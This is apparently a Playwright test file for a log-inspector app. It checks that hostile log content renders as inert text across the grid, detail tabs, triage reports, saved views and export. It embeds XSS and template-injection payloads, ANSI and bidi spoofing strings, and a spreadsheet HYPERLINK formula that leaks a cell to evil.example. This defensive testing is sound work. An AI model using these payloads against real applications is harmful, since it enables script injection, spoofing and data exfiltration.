// Log content is hostile (issue 7): the whole hostile corpus (tests/fixtures/hostile/<format>/*, every
// payload in every field) is imported through the UI, and every screen that shows log text is
// opened: the grid and its tooltips, every detail tab of every entry, the timeline, the filter
// popovers, the triage wizard to its verdict and the HTML report (in a page of its own), the
// findings, saved views, compare, tenants and export. After each: nothing ran, nothing was made
// from data, no request left the machine, no dialog opened, no CSP violation, and no control or
// bidi character reached the screen raw (pages/tripwire.ts).
import { readdirSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Page } from 'playwright/test'
import { AnalysisPage } from './pages/analysis-page'
import type { InspectorPage } from './pages/inspector-page'
import { FindingsList, TriageWizard } from './pages/triage-panel'
import { Tripwire } from './pages/tripwire'
import { expect, test } from './fixtures'
import { ROOT } from './runtime'

const CORPUS = join(ROOT, 'tests', 'fixtures', 'hostile')
const FILES = readdirSync(CORPUS, { withFileTypes: true })
  .filter((d) => d.isDirectory())
  .flatMap((d) => readdirSync(join(CORPUS, d.name)).map((f) => join(CORPUS, d.name, f)))
/** tests/fixtures/hostile/README.md: 4 + 4 + 4 + 3 + 3 + 4 */
const ENTRIES = 22
const DETAIL_TABS = ['Overview', 'Request', 'Response', 'Raw'] as const

async function importCorpus(app: InspectorPage, wire: Tripwire): Promise<void> {
  expect(FILES).toHaveLength(6)
  await app.chooseFiles(app.openFileButton, FILES)
  await expect(app.summary).toContainText(`Imported ${ENTRIES} entries`, { timeout: 60_000 })
  for (const toggle of await app.summary.locator('summary').all()) await toggle.click()
  await wire.expectInert(app.page, 'import summary')
  await app.dismissSummaries()
  await app.expectCount(ENTRIES)
  await app.sourcesButton.click()
  await expect(app.sourcesDialog.locator('tbody tr')).toHaveCount(6)
  await wire.expectInert(app.page, 'sources')
  await app.page.keyboard.press('Escape')
}

/** Every entry, one after the other with ↓, on one detail tab. */
async function walkEntries(app: InspectorPage, wire: Tripwire, tab: (typeof DETAIL_TABS)[number]): Promise<void> {
  await app.rows.first().locator('[col-id="ts"]').click()
  await app.tab(tab).click()
  for (let index = 0; index < ENTRIES; index++) {
    const row = app.grid.locator(`[role="row"][row-index="${index}"][aria-selected="true"]`).first()
    await expect(row).toBeVisible()
    const id = await row.getAttribute('row-id')
    await expect(app.detail).toHaveAttribute('data-entry-id', id as string)
    await expect(app.detail).toHaveAttribute('aria-busy', 'false')
    await expect(app.tab(tab)).toHaveAttribute('aria-selected', 'true')
    await wire.expectInert(app.page, `${tab} tab of entry ${id}`)
    // back to the grid (Escape), one row down
    await app.detail.press('Escape')
    await app.page.keyboard.press('ArrowDown')
  }
}

async function hoverTooltips(app: InspectorPage, wire: Tripwire): Promise<void> {
  for (const row of (await app.rows.all()).slice(0, 8)) {
    for (const col of ['apiUser', 'function', 'statusCode', 'resultReason', 'url']) {
      const cell = row.locator(`[col-id="${col}"] [title]`)
      if ((await cell.count()) > 0) await cell.first().hover()
    }
  }
  const plot = app.timeline
  const box = await plot.boundingBox()
  if (!box) throw new Error('the timeline has no box')
  let tips = 0
  for (let x = 2; x < box.width; x += 12) {
    await app.page.mouse.move(box.x + x, box.y + 40)
    if (await plot.getByRole('status').isVisible()) tips++
  }
  expect(tips, 'the timeline bars show their tooltips').toBeGreaterThan(0)
  await wire.expectInert(app.page, 'tooltips')
  await app.page.mouse.move(0, 0)
}

async function openFilters(app: InspectorPage, wire: Tripwire): Promise<void> {
  for (const label of ['API User', 'Agent User', 'Function', 'Result']) {
    await app.filterButton(label).click()
    await expect(app.valuesPanel(label).getByRole('checkbox').first()).toBeVisible()
    await wire.expectInert(app.page, `${label} filter`)
    await app.page.keyboard.press('Escape')
  }
  await app.page.getByRole('button', { name: 'More filters' }).click()
  for (const label of ['Status', 'Method', 'Service', 'Tenant', 'Client IP', 'Source file']) {
    await app.filterButton(label).click()
    await expect(app.valuesPanel(label).getByRole('checkbox').first()).toBeVisible()
    await wire.expectInert(app.page, `${label} filter`)
    await app.page.keyboard.press('Escape')
  }
}

async function openReport(page: Page, wire: Tripwire, path: string): Promise<void> {
  const report = await page.context().newPage()
  await report.goto(pathToFileURL(path).href)
  await expect(report.locator('h1')).toContainText('<svg/onload=window.__pwned=5>')
  await wire.expectInert(report, 'HTML report')
  await report.close()
}

const BIDI_CALLER = 'invoice\\u202Egnp.exe\\u202C \\u2066isolate\\u2069 \\u200Fmark'
const MARKUP_CALLER = '<svg/onload=window.__pwned=5>'

test.describe('the hostile corpus imported through the UI', () => {
  let wire: Tripwire
  test.beforeEach(async ({ app }) => {
    wire = await Tripwire.arm(app.page)
    await importCorpus(app, wire)
  })
  test.afterEach(async ({ app }) => {
    await wire.expectInert(app.page, 'at the end')
  })

  test('the grid and its tooltips show markup as text and controls as escapes', async ({ app }) => {
    const fn = app.row(/POST \/v1\/<script>window\.__pwned=2<\/script>\/invoice/).first().locator('[col-id="function"]')
    await expect(fn).toContainText(`POST /v1/<script>window.__pwned=2</script>/${BIDI_CALLER}`)
    await expect(fn.locator('.ctl-char').first()).toHaveAttribute('title', 'U+202E RIGHT-TO-LEFT OVERRIDE')
    const ansi = app.grid.locator('[col-id="apiUser"]').filter({ hasText: '\\x1B[31mred\\x1B[0m\\x1B[2J\\x1B]0;pwned-title\\x07\\x1B]8;;https://evil.example\\x07link' })
    await expect(ansi.first()).toBeVisible()
    await wire.expectInert(app.page, 'grid')
    await hoverTooltips(app, wire)
    await openFilters(app, wire)
    // a hostile value as a filter: its chip, the status line and the facet button's title
    await app.pick('API User', MARKUP_CALLER)
    await expect(app.chip(`API User: ${MARKUP_CALLER}`)).toBeVisible()
    await app.expectCount(4)
  })

  test('every detail tab of every entry', async ({ app }) => {
    test.setTimeout(180_000)
    // text stays text: the HAR entry's header named with markup, its bodies, its redacted cookie
    await app.row(/POST \/v1\/<script>/).first().locator('[col-id="ts"]').click()
    await app.tab('Request').click()
    const header = app.detail.getByRole('region', { name: 'Request headers' }).getByRole('row', { name: /^<img src=x onerror="window.__pwned=1">/ })
    await expect(header).toContainText('<script>window.__pwned=2</script>')
    await expect(app.detail.getByRole('region', { name: 'Request headers' })).toContainText('\\x1B[31mred\\x1B[0m\\x1B[2J')
    await expect(app.codeText('Request body')).toContainText('"formula": "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"click me\\")"')
    await app.tab('Response').click()
    await expect(app.codeText('Response body')).toContainText('<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>')
    await app.tab('Overview').click()
    await app.detail.press('Escape')
    for (const tab of DETAIL_TABS) await walkEntries(app, wire, tab)
  })

  test('the triage wizard step by step, its HTML report, a caller with a bidi override, and findings', async ({ app }) => {
    const wizard = new TriageWizard(app.page)
    await wizard.run({ caller: MARKUP_CALLER, at: '2024-05-01 10:00' })
    for (let step = 0; step < 12 && !(await wizard.headline.isVisible()); step++) {
      await wire.expectInert(app.page, `triage step ${step + 1}`)
      const node = await wizard.currentNode.getAttribute('data-node')
      await wizard.nextButton.click()
      await expect(async () => {
        const moved = (await wizard.headline.isVisible()) || (await wizard.currentNode.getAttribute('data-node')) !== node
        expect(moved).toBe(true)
      }).toPass()
    }
    await expect(wizard.headline).toContainText(MARKUP_CALLER)
    await wire.expectInert(app.page, 'triage verdict')
    const download = app.page.waitForEvent('download')
    await wizard.panel.getByRole('button', { name: 'Save report as HTML' }).click()
    const file = await download
    expect(file.suggestedFilename()).toMatch(/\.html$/)
    const saved = test.info().outputPath(file.suggestedFilename())
    await file.saveAs(saved)
    await openReport(app.page, wire, saved)

    // picked from the list: escaped in the box, the steps and the verdict
    await wizard.panel.getByRole('button', { name: 'New triage' }).click()
    await wizard.field('API User').fill('invoice')
    await wizard.panel.getByRole('option', { name: BIDI_CALLER, exact: true }).click()
    await expect(wizard.field('API User')).toHaveValue(BIDI_CALLER)
    await wire.expectInert(app.page, 'triage form with a picked caller')
    await wizard.panel.getByRole('button', { name: 'Run triage' }).click()
    await expect(wizard.heading('Set time range around the failure')).toBeVisible()
    await wizard.panel.getByRole('button', { name: 'Skip to verdict' }).click()
    await expect(wizard.headline).toContainText(BIDI_CALLER)
    await wire.expectInert(app.page, 'triage verdict for a caller with a bidi override')
    const markdown = app.page.waitForEvent('download')
    await wizard.panel.getByRole('button', { name: 'Save report as Markdown' }).click()
    expect((await markdown).suggestedFilename()).not.toMatch(/[\u0000-\u001f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
    await expect(app.page.getByText(/^Report saved as triage-invoice_gnp_exe/)).toBeVisible()
    await wire.expectInert(app.page, 'the notice after saving that report')
    await wizard.panel.getByRole('button', { name: 'Close triage' }).click()

    const findings = new FindingsList(app.page)
    await findings.openButton.click()
    await expect(findings.items.first()).toBeVisible()
    await wire.expectInert(app.page, 'findings')
    await findings.items.first().getByRole('button').first().click()
    await wire.expectInert(app.page, 'a finding shown in the grid')
  })

  test('saved views, compare, tenants and export', async ({ app }) => {
    const tools = new AnalysisPage(app.page)
    // a name with markup; a name with a bidi override is refused with the reason shown
    await app.pick('API User', MARKUP_CALLER)
    const name = '<img src=x onerror="window.__pwned=1"> {{constructor.constructor(\'window.__pwned=8\')()}}'
    await tools.saveView(name)
    await expect(tools.view(name)).toContainText(`API User: ${MARKUP_CALLER}`)
    await wire.expectInert(app.page, 'saved views')
    await tools.sidebar.getByRole('button', { name: 'Save current view…' }).click()
    await tools.saveDialog.getByRole('textbox', { name: 'Name' }).fill('invoice\u202Egnp.exe')
    await tools.saveDialog.getByRole('button', { name: /^(Save|Replace) view$/ }).click()
    await expect(tools.saveDialog.getByRole('alert')).toBeVisible()
    await tools.saveDialog.getByRole('textbox', { name: 'Name' }).fill('') // typed by the user, not from the log
    await wire.expectInert(app.page, 'save view dialog')
    await app.page.keyboard.press('Escape')
    await tools.viewAction(name, 'Rename…')
    await wire.expectInert(app.page, 'rename dialog')
    await app.page.keyboard.press('Escape')
    await app.clearAllButton.click()
    await tools.applyView(name)
    await app.expectCount(4)
    await app.clearAllButton.click()
    await app.expectCount(ENTRIES)

    await tools.compareButton.click()
    await expect(tools.matrix).toBeVisible()
    await wire.expectInert(app.page, 'compare')
    await app.page.keyboard.press('Escape')
    await tools.tenantsButton.click()
    await expect(tools.tenantsTable).toBeVisible()
    await wire.expectInert(app.page, 'tenants')
    await app.page.keyboard.press('Escape')

    // the redaction preview of the HAR entry (its cookie is a credential), then the export itself
    await app.row(/POST \/v1\/<script>/).first().locator('[col-id="ts"]').click()
    await tools.exportButton.click()
    await expect(tools.exportCount).toContainText(`${ENTRIES} entries will be exported`)
    await wire.expectInert(app.page, 'export dialog')
    await tools.exportDialog.getByRole('radio', { name: /^NDJSON —/ }).check()
    const exported = app.page.waitForEvent('download')
    await tools.exportDialog.getByRole('button', { name: /^Export \d/ }).click()
    await exported
    await expect(tools.exportDialog.getByTestId('export-result')).toBeVisible()
  })
})
